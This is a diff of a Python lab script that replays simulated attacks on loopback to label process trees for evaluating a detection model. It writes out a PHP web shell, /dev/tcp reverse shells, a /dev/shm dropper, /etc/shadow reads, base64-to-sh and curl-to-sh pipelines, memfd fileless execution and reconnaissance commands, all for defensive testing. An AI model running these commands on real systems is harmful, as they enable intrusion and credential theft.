@@ -1,223 +1,340 @@
 #!/usr/bin/env python3
-"""Attack scenarios against the lab host, harmless and self-cleaning, loopback only.
+"""Attack scenarios against the lab host: harmless, self-cleaning, loopback only, one at a time.
 
-Each scenario runs as its own process tree; ``run`` prints (and with ``--sidecar FILE`` appends to a JSON
-sidecar) the scenario name and the tree's root pid, so ``sentinel model eval`` can count only that tree in a
-system-wide capture. ``run`` starts the lab services itself (the web shell's tree is rooted at its web
-server), so the benign workload must not be running at the same time.
+Each scenario is one process tree with a root this script knows (pid and start time): ``run NAME --sidecar
+CAPTURE.attack.json`` writes them down, so ``sentinel model eval`` counts only that tree in a system-wide
+capture. The root is the attack's first process (the shell the web server starts, the reverse shell, the
+dropper's shell…), never this script, so the harness's own activity does not count. Like the benign
+workload's jobs, roots other than the web shell are children of a Python process running as root.
 
     python3 scripts/lab/attacks.py --list
-    python3 scripts/lab/attacks.py run web_shell [--sidecar CAPTURE.attacks.json]
-    python3 scripts/lab/attacks.py run all --sidecar CAPTURE.attacks.json
+    python3 scripts/lab/attacks.py run web_shell --sidecar /var/tmp/web_shell.cap.attack.json
 
-Exit codes: 0 ran, 1 a scenario failed, 2 bad usage.
+The web shell needs the lab's web server: a running benign workload's, or one this script starts (and
+stops) itself. "C2" listeners and the stager server are started here on 127.0.0.1 and closed afterwards.
+Exit codes: 0 the attack ran, 1 it could not run (no service, timeout), 2 bad usage.
 """
 
 from __future__ import annotations
 
 import argparse
+import base64
+import contextlib
+import datetime as dt
+import http.server
 import json
 import os
-import shutil
 import socket
 import subprocess
 import sys
-import tempfile
 import threading
 import time
+import urllib.parse
 import urllib.request
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
-import contextlib
-
 import lab
 
-PAYLOAD = (
-    "ZWNobyBsYWItYXR0YWNrLXBheWxvYWQ7IGlkOyB1bmFtZSAtYQo="  # base64 of: echo lab-attack-payload; id; uname -a
-)
+C2_PORT = 4444  # the attacker's listener; an ephemeral port when 4444 is taken
+STAGER_PORT = 31337
+TIMEOUT_S = 60.0
+CLK_TCK = os.sysconf("SC_CLK_TCK")
+PAYLOAD_TEXT = "echo lab-attack-payload; id; uname -a; cat /etc/hostname\n"
+PAYLOAD = base64.b64encode(PAYLOAD_TEXT.encode()).decode()
+STAGE2 = b"id; uname -a; d=/tmp/.lab-x; mkdir -p $d && echo staged > $d/flag && ls -la $d; rm -rf $d\n"
 
 
-def listener() -> tuple[socket.socket, int]:
-    """A loopback listener on an odd port that accepts and drains whatever connects (the 'C2')."""
-    srv = socket.create_server(("127.0.0.1", 0))
-    port = srv.getsockname()[1]
+@dataclass(slots=True)
+class Root:
+    """The attack tree's root process: what the sidecar names."""
+
+    pid: int
+    start_ticks: int
+    exit_code: int
+
+
+class ScenarioError(Exception):
+    """The scenario could not run (as opposed to an attack command that failed, which is still an attack)."""
+
+
+def boottime_ticks() -> int:
+    return time.clock_gettime_ns(time.CLOCK_BOOTTIME) * CLK_TCK // 1_000_000_000
+
+
+def start_ticks_of(pid: int, fallback: int) -> int:
+    """/proc/PID/stat starttime (field 22), or ``fallback`` when the process is already gone."""
+    try:
+        stat = Path(f"/proc/{pid}/stat").read_text()
+        return int(stat.rsplit(")", 1)[1].split()[19])
+    except (OSError, IndexError, ValueError):
+        return fallback
+
+
+def spawn(argv: list[str], timeout: float = TIMEOUT_S) -> Root:
+    """Start the attack's root process, note its start, wait for it (killed after ``timeout``).
+
+    It runs with the lab administrator's environment, as the benign admin sessions do: an attacker with a
+    root shell on the server, not this machine's developer environment.
+    """
+    before = boottime_ticks()
+    env = lab.admin_env()
+    cwd = env["HOME"]
+    quiet = subprocess.DEVNULL
+    proc = subprocess.Popen(argv, env=env, stdin=quiet, stdout=quiet, stderr=quiet, cwd=cwd)
+    ticks = start_ticks_of(proc.pid, before)
+    try:
+        rc = proc.wait(timeout)
+    except subprocess.TimeoutExpired as exc:
+        proc.kill()
+        proc.wait()
+        raise ScenarioError(f"{argv[0]} did not finish within {timeout:.0f}s") from exc
+    return Root(proc.pid, ticks, rc)
+
+
+@contextlib.contextmanager
+def listener(port: int = C2_PORT, send: bytes = b"") -> Iterator[int]:
+    """A loopback TCP listener (the attacker's side) that sends ``send`` to whoever connects and drains the
+    answer; yields the port it got."""
+    try:
+        srv = socket.create_server(("127.0.0.1", port))
+    except OSError:
+        srv = socket.create_server(("127.0.0.1", 0))
+    srv.settimeout(0.5)
+    stop = threading.Event()
 
     def serve() -> None:
-        srv.settimeout(15)
-        try:
-            while True:
+        while not stop.is_set():
+            try:
                 conn, _ = srv.accept()
-                conn.settimeout(2)
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(5)
                 with contextlib.suppress(OSError):
-                    conn.recv(4096)
-                conn.close()
-        except OSError:
+                    if send:
+                        conn.sendall(send)
+                    while conn.recv(4096):
+                        pass
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    try:
+        yield srv.getsockname()[1]
+    finally:
+        stop.set()
+        thread.join(2)
+        srv.close()
+
+
+@contextlib.contextmanager
+def stager(body: bytes) -> Iterator[int]:
+    """A loopback HTTP server handing out a second-stage script (what ``curl … | sh`` fetches)."""
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args: object) -> None:
             pass
 
-    threading.Thread(target=serve, daemon=True).start()
-    return srv, port
+    try:
+        srv = http.server.ThreadingHTTPServer(("127.0.0.1", STAGER_PORT), Handler)
+    except OSError:
+        srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=srv.serve_forever, daemon=True)
+    thread.start()
+    try:
+        yield srv.server_address[1]
+    finally:
+        srv.shutdown()
+        srv.server_close()
 
 
-def via_web_shell(cmd: str) -> None:
-    """The planted web shell: the lab's php-fpm runs ``cmd`` with /bin/sh."""
-    url = f"http://127.0.0.1:{lab.WEB_PORT}/exec?c={cmd.encode().hex()}"
-    with urllib.request.urlopen(url, timeout=30) as r:
-        r.read()
+# ---------------------------------------------------------------------------------------------- scenarios
 
 
-def web_shell() -> list[str]:
-    srv, port = listener()
-    via_web_shell(f"id; uname -a; whoami; bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo hi >&3'")
-    srv.close()
-    return ["sh", "-c", "web shell via php-fpm"]
+def web_shell() -> Root:
+    """A PHP web shell planted in the docroot; php-fpm runs its command with /bin/sh (as www-data)."""
+    if not lab.port_open(lab.WEB_PORT):
+        raise ScenarioError("the lab web server is not running")
+    shell = lab.ROOT / "www" / "uploads" / "thumb.php"
+    shell.parent.mkdir(parents=True, exist_ok=True)
+    shell.write_text("<?php system($_GET['c']); ?>\n")  # the upload that happened before the attack
+    try:
+        with listener() as port:
+            cmd = f"id; whoami; uname -a; bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; id >&3; uname -a >&3'"
+            url = f"http://127.0.0.1:{lab.WEB_PORT}/uploads/thumb.php?c={urllib.parse.quote(cmd)}"
+            with urllib.request.urlopen(url, timeout=TIMEOUT_S) as resp:
+                resp.read()
+                pid, ticks = resp.headers.get("X-Lab-Pid"), resp.headers.get("X-Lab-Start-Ticks")
+    finally:
+        shell.unlink(missing_ok=True)
+    if pid is None or ticks is None:
+        raise ScenarioError("the web server did not run the planted page")
+    return Root(int(pid), int(ticks), 0)
 
 
-def reverse_shell() -> list[str]:
-    srv, port = listener()
-    cmd = f"bash -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; echo $(id) >&5; cat /etc/passwd >&5'"
-    subprocess.run(["/bin/sh", "-c", cmd], check=False)
-    srv.close()
-    return []
+def reverse_shell() -> Root:
+    """bash -i with its terminal redirected to a loopback listener, which sends it commands."""
+    commands = b"id\nwhoami\nuname -a\nhostname\nhead -3 /etc/passwd\nexit\n"
+    with listener(send=commands) as port:
+        return spawn(["/bin/bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"])
 
 
-def dropper() -> list[str]:
-    srv, port = listener()
-    drop = Path(tempfile.mkdtemp(prefix=".x", dir="/dev/shm")) / "kworkerd"
-    shutil.copy("/usr/bin/python3", drop)
+def dropper() -> Root:
+    """A binary copied into /dev/shm under a kernel-thread-like name runs with a base64 payload in argv and
+    sends it to the listener."""
+    with listener() as port:
+        code = (
+            "import base64, socket, sys; "
+            f's = socket.create_connection(("127.0.0.1", {port})); s.sendall(base64.b64decode(sys.argv[1]))'
+        )
+        script = (
+            "d=/dev/shm/.ICE-lab; mkdir -p $d && cp /usr/bin/python3 $d/kworkerd && chmod 700 $d/kworkerd"
+            f" && PYTHONHOME=/usr $d/kworkerd -c '{code}' {PAYLOAD}; rm -rf $d"
+        )
+        return spawn(["/bin/sh", "-c", script])
+
+
+def credential_read() -> Root:
+    """A renamed copy of cat in /var/tmp reads /etc/shadow and /etc/gshadow."""
+    script = "t=/var/tmp/.sysupdate; cp /bin/cat $t && $t /etc/shadow /etc/gshadow > /dev/null; rm -f $t"
+    return spawn(["/bin/sh", "-c", script])
+
+
+def encoded_command() -> Root:
+    """echo <base64> | base64 -d | sh: a command line hidden from a casual look."""
+    return spawn(["/bin/sh", "-c", f"echo {PAYLOAD} | base64 -d | sh"])
+
+
+def discovery_burst() -> Root:
+    """Two dozen reconnaissance commands within a couple of seconds."""
+    cmds = ["whoami", "id", "uname -a", "hostname", "cat /etc/passwd", "cat /etc/group",
+            "cat /etc/os-release", "cat /proc/version", "ps -ef", "ip addr", "ip route", "ss -tanp",
+            "cat /etc/resolv.conf",
+            "ls -la /root /home", "find / -maxdepth 3 -perm -4000 -type f", "getent group sudo",
+            "cat /etc/sudoers", "crontab -l", "ls -la /etc/cron.d", "env", "mount", "df -h", "last -n 5",
+            "ls -la /tmp /dev/shm"]  # fmt: skip
+    return spawn(["/bin/sh", "-c", "; ".join(f"{c} > /dev/null 2>&1" for c in cmds)])
+
+
+def memfd_exec() -> Root:
+    """A program written into an anonymous memory file and executed from it (fexecve): no file on disk."""
     code = (
-        f"import socket,sys; s=socket.create_connection(('127.0.0.1',{port})); s.send(sys.argv[1].encode())"
-    )
-    env = {**os.environ, "PYTHONHOME": sys.base_prefix}
-    subprocess.run([str(drop), "-c", code, PAYLOAD], env=env, check=False)
-    shutil.rmtree(drop.parent, ignore_errors=True)
-    srv.close()
-    return []
-
-
-def credential_read() -> list[str]:
-    tool = Path(tempfile.mkdtemp(prefix="lab-")) / "rd"
-    shutil.copy("/bin/cat", tool)
-    subprocess.run([str(tool), "/etc/shadow", "/etc/gshadow"], stdout=subprocess.DEVNULL, check=False)
-    shutil.rmtree(tool.parent, ignore_errors=True)
-    return []
-
-
-def encoded_command() -> list[str]:
-    subprocess.run(
-        ["/bin/sh", "-c", f"echo {PAYLOAD} | base64 -d | sh"], stdout=subprocess.DEVNULL, check=False
-    )
-    return []
-
-
-def discovery_burst() -> list[str]:
-    cmds = ["whoami", "id", "uname -a", "cat /etc/passwd", "cat /etc/os-release", "ps -ef", "ip addr",
-            "find / -maxdepth 3 -perm -4000 -type f", "ls -la /root /home", "cat /proc/version",
-            "getent group sudo", "last -n 5"]  # fmt: skip
-    subprocess.run(["/bin/sh", "-c", "; ".join(f"{c} >/dev/null 2>&1" for c in cmds)], check=False)
-    return []
-
-
-def memfd_exec() -> list[str]:
-    code = (
-        "import os; fd = os.memfd_create('x', 0); "
-        "os.write(fd, open('/bin/true','rb').read()); "
+        "import os\n"
+        "fd = os.memfd_create('')\n"
+        "with open('/usr/bin/id', 'rb') as f:\n"
+        "    os.write(fd, f.read())\n"
         "pid = os.fork()\n"
-        "if pid == 0:\n    os.execve(fd, ['[kthreadd]'], {})\n"
-        "os.waitpid(pid, 0)"
+        "if pid == 0:\n"
+        "    os.execve(fd, ['[kworker/u4:2]'], {})\n"
+        "os.waitpid(pid, 0)\n"
     )
-    subprocess.run([sys.executable, "-c", code], check=False)
-    return []
+    return spawn(["/usr/bin/python3", "-c", code])
 
 
-def port_scan() -> list[str]:
+def port_scan() -> Root:
+    """Connects to 1,000 loopback ports in a few seconds."""
     code = (
         "import socket\n"
-        "for p in range(20, 120):\n"
-        "    s = socket.socket(); s.settimeout(0.05)\n"
-        "    try: s.connect(('127.0.0.1', p))\n"
-        "    except OSError: pass\n"
+        "for port in range(1, 1025):\n"
+        "    s = socket.socket()\n"
+        "    s.settimeout(0.2)\n"
+        "    s.connect_ex(('127.0.0.1', port))\n"
         "    s.close()\n"
     )
-    subprocess.run([sys.executable, "-c", code], check=False)
-    return []
+    return spawn(["/usr/bin/python3", "-c", code])
 
 
-SCENARIOS: dict[str, tuple[Callable[[], list[str]], str]] = {
-    "web_shell": (web_shell, "php-fpm starts a shell: id, uname, whoami, bash to an odd loopback port"),
-    "reverse_shell": (reverse_shell, "bash with /dev/tcp to an odd loopback port, sends id and /etc/passwd"),
-    "dropper": (dropper, "a binary dropped in /dev/shm runs with a base64 payload and connects out"),
-    "credential_read": (credential_read, "an unknown binary reads /etc/shadow and /etc/gshadow"),
-    "encoded_command": (encoded_command, "echo <base64> | base64 -d | sh"),
-    "discovery_burst": (discovery_burst, "a dozen reconnaissance commands in a second"),
-    "memfd_exec": (memfd_exec, "a program written to a memfd and executed from it"),
-    "port_scan": (port_scan, "connects to 100 loopback ports"),
+def curl_pipe_sh() -> Root:
+    """curl fetches a second stage from a loopback server and pipes it to sh."""
+    with stager(STAGE2) as port:
+        return spawn(["/bin/sh", "-c", f"curl -fsSL http://127.0.0.1:{port}/s.sh | sh"])
+
+
+SCENARIOS: dict[str, Callable[[], Root]] = {
+    "web_shell": web_shell,
+    "reverse_shell": reverse_shell,
+    "dropper": dropper,
+    "credential_read": credential_read,
+    "encoded_command": encoded_command,
+    "discovery_burst": discovery_burst,
+    "memfd_exec": memfd_exec,
+    "port_scan": port_scan,
+    "curl_pipe_sh": curl_pipe_sh,
 }
 
 
-# Scenarios whose malicious tree hangs below the lab's web server rather than below the scenario process.
-VIA_WEB_SERVER = frozenset({"web_shell"})
+def describe(name: str) -> str:
+    return " ".join((SCENARIOS[name].__doc__ or "").split("\n\n")[0].split())
 
 
-def run_one(name: str, web_pid: int) -> dict[str, object]:
-    """Run a scenario in a child process and return the instance record (the root of its process tree)."""
-    child = subprocess.Popen([sys.executable, __file__, "_child", name])
-    rc = child.wait(120)
-    root = web_pid if name in VIA_WEB_SERVER else child.pid
-    return {"scenario": name, "root_pid": root, "rc": rc, "time": time.time()}
+def run(name: str) -> Root:
+    """Run one scenario in the lab (prepared here, and removed after, if no workload has it); the web shell
+    starts the lab's services itself when no workload is running."""
+    owned = not lab.ROOT.exists()
+    services: list[subprocess.Popen[bytes]] = []
+    try:
+        if owned:
+            lab.prepare()
+        if name == "web_shell" and not lab.port_open(lab.WEB_PORT):
+            services = lab.start_services()
+        return SCENARIOS[name]()
+    finally:
+        lab.stop(services)
+        if owned:
+            lab.remove()
 
 
 def main() -> int:
-    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
-    ap.add_argument("--list", action="store_true", help="list the scenarios")
-    sub = ap.add_subparsers(dest="cmd")
-    run = sub.add_parser("run", help="run a scenario (or all)")
-    run.add_argument("name", help="scenario name or 'all'")
-    run.add_argument("--sidecar", metavar="FILE", help="append the instance(s) to this JSON sidecar")
-    run.add_argument("--gap", type=float, default=2.0, metavar="S", help="seconds between scenarios (all)")
-    child = sub.add_parser("_child")
-    child.add_argument("name")
+    ap = argparse.ArgumentParser(
+        description=(__doc__ or "").split("\n\n")[0],
+        epilog="Exit codes: 0 the attack ran, 1 it could not run, 2 bad usage.",
+    )
+    ap.add_argument("--list", action="store_true", help="list the scenarios and exit")
+    sub = ap.add_subparsers(dest="cmd", metavar="COMMAND")
+    one = sub.add_parser("run", help="run one scenario")
+    one.add_argument("name", metavar="NAME", help="scenario (see --list)")
+    one.add_argument("--sidecar", metavar="FILE", help="write the attack tree here (CAPTURE.attack.json)")
     args = ap.parse_args()
     if args.list:
-        for name, (_, desc) in SCENARIOS.items():
-            print(f"{name:<16} {desc}")
-        return 0
-    if args.cmd == "_child":
-        SCENARIOS[args.name][0]()
+        for name in SCENARIOS:
+            print(f"{name:<16} {describe(name)}")
         return 0
     if args.cmd != "run":
-        ap.print_help()
+        ap.print_usage(sys.stderr)
+        print("attacks.py: give --list or run NAME", file=sys.stderr)
         return 2
-    names = list(SCENARIOS) if args.name == "all" else [args.name]
-    unknown = [n for n in names if n not in SCENARIOS]
-    if unknown:
-        print(f"attacks: unknown scenario {unknown[0]!r}; see --list", file=sys.stderr)
+    if args.name not in SCENARIOS:
+        print(f"attacks.py: unknown scenario {args.name!r}; see --list", file=sys.stderr)
         return 2
-    if lab.services_running():
-        print(f"attacks: port {lab.WEB_PORT} is in use: stop the benign workload first", file=sys.stderr)
-        return 1
-    created = not lab.ROOT.exists()
-    lab.prepare()
-    services = lab.start_services()  # our own instance: the web shell's tree is rooted at its pid
-    instances = []
+    started = dt.datetime.now(dt.UTC)
     try:
-        for i, name in enumerate(names):
-            if i:
-                time.sleep(args.gap)
-            inst = run_one(name, services[0].pid)
-            instances.append(inst)
-            print(f"attacks: {name} root_pid={inst['root_pid']} rc={inst['rc']}", file=sys.stderr)
-    finally:
-        lab.stop(services)
-        if created:
-            shutil.rmtree(lab.ROOT, ignore_errors=True)
+        root = run(args.name)
+    except (ScenarioError, RuntimeError, OSError) as exc:
+        print(f"attacks.py: {args.name} could not run: {exc}", file=sys.stderr)
+        return 1
+    record = {
+        "version": 1,
+        "scenario": args.name,
+        "description": describe(args.name),
+        "root_pid": root.pid,
+        "root_start_ticks": root.start_ticks,
+        "clk_tck": CLK_TCK,
+        "root_exit_code": root.exit_code,
+        "started": started.isoformat().replace("+00:00", "Z"),
+        "host": socket.gethostname(),
+    }
+    print(f"attacks.py: {args.name} root_pid={root.pid} exit={root.exit_code}", file=sys.stderr)
     if args.sidecar:
-        side = Path(args.sidecar)
-        data = json.loads(side.read_text()) if side.exists() else {"instances": []}
-        data["instances"].extend(instances)
-        side.write_text(json.dumps(data, indent=2) + "\n")
-    return 0 if all(i["rc"] == 0 for i in instances) else 1
+        Path(args.sidecar).write_text(json.dumps(record, indent=2) + "\n")
+    return 0
 
 
 if __name__ == "__main__":
